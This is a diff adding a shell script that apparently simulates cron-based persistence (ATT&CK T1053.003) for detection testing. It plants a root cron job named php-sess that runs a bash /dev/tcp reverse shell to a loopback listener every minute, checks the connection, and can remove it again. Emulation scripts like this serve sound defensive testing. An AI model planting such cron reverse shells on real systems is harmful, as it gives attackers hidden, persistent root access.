@@ -1,0 +1,30 @@
+#!/bin/sh
+# T1053.003 (loud): A file in cron.d that opens a shell to a listener each minute
+M=/var/tmp/luytre-foothold N=01-cron-d-shell
+mkdir -p "$M" && chmod 1777 "$M"
+seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
+w() { mkdir -p "${1%/*}"; cat >"$1"; }
+listen() { # a listener on loopback that notes who connects
+  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
+import socket, sys
+s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
+c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
+END
+  sleep 0.4; }
+plant() {
+  w /etc/cron.d/php-sess <<'E'
+* * * * * root bash -c "bash -i >& /dev/tcp/127.0.0.1/47001 0>&1" >/dev/null 2>&1
+E
+  chmod 644 /etc/cron.d/php-sess
+}
+prove() {
+  rm -f "$M/$N"
+  listen 47001
+  seen 280
+}
+remove() {
+  rm -f /etc/cron.d/php-sess
+  rm -f "$M/$N" "$M/$N".*
+  :
+}
+case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
